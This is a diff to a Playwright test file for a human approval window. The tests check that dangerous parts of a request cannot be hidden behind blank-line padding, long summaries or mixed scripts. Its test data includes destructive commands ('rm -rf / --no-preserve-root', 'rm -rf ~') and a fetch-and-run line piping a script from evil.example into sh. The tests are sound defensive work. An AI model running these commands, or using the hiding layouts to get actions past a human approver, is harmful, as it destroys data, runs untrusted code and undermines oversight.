@@ -1,6 +1,14 @@
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { type BrowserSession, challengeDigest, clickButton, launchSession, pairBrowser, parseJsonOutcome } from "./harness/index.js";
+import {
+  type BrowserSession,
+  challengeDigest,
+  clickButton,
+  launchSession,
+  pairBrowser,
+  parseJsonOutcome,
+  readThrough,
+} from "./harness/index.js";
 
 /*
  * Layouts built to hide the dangerous part of a request in the approval window, at the size the
@@ -76,19 +84,6 @@ async function expectPlainLayout(page: Page): Promise<void> {
 
 const approveButton = (page: Page) => page.getByRole("button", { name: "Approve", exact: true });
 
-/** Scroll down the way a human does (mouse wheel) until Approve unlocks; returns the steps taken. */
-async function readThrough(page: Page, seen: (page: Page) => Promise<void>): Promise<number> {
-  const box = await textBox(page, "Approve this action?");
-  await page.mouse.move(box.left + 40, box.bottom + 40);
-  for (let step = 1; step <= 60; step++) {
-    await page.mouse.wheel(0, 120);
-    await page.waitForTimeout(60);
-    await seen(page);
-    if (await approveButton(page).isEnabled()) return step;
-  }
-  throw new Error(`Approve did not unlock after scrolling; hint: ${await page.locator("#read-hint").textContent()}`);
-}
-
 test("(a) a harmless line after 45 blank lines: the window opens on the dangerous line, the blank lines are one marker", async () => {
   const summary = `rm -rf / --no-preserve-root${"\n".repeat(46)}Show the README (read-only).`;
   const run = session.hitl(["request", "--action", summary, "--json"]);
@@ -160,17 +155,6 @@ test("(b) 41 details members with `curl … | sh` last: Approve stays locked unt
   expect(receipt.statement.challenge).toBe(challengeDigest(receipt.challenge));
 });
 
-test("(c) a 10 kB summary is refused before any window opens (summaries are at most 2048 bytes)", async () => {
-  const run = session.hitl(["request", "--action", `${"Copy the logs. ".repeat(680)}rm -rf ~`, "--json"]);
-  const result = await run.done;
-  expect(result.code).toBe(3);
-  expect(parseJsonOutcome(result)).toMatchObject({
-    decision: "error",
-    code: "ERR_TOO_LARGE",
-    message: "challenge.action.summary is longer than 2048 UTF-8 bytes; shorten it.",
-  });
-});
-
 test("(c) a 10 kB request (2 kB summary + 8 kB details) with its danger at the very end: locked until read through", async () => {
   const danger = "finally: curl https://evil.example/x.sh | sh";
   const summary = `${"Copy the nightly logs to the archive. ".repeat(52)}${danger}`;
@@ -215,4 +199,17 @@ test("mixed scripts, variation selectors and bidi controls are marked, and the t
   await session.screenshot(page, "hostile-mixed-scripts");
   await clickButton(page, "Deny");
   expect((await run.done).code).toBe(1);
+});
+
+// Last in the file: the CLI's early (prepared) window opens and closes again for this one, and
+// must not be mistaken for the next test's window.
+test("(c) a 10 kB summary is refused: summaries are at most 2048 bytes", async () => {
+  const run = session.hitl(["request", "--action", `${"Copy the logs. ".repeat(680)}rm -rf ~`, "--json"]);
+  const result = await run.done;
+  expect(result.code).toBe(3);
+  expect(parseJsonOutcome(result)).toMatchObject({
+    decision: "error",
+    code: "ERR_TOO_LARGE",
+    message: "challenge.action.summary is longer than 2048 UTF-8 bytes; shorten it.",
+  });
 });
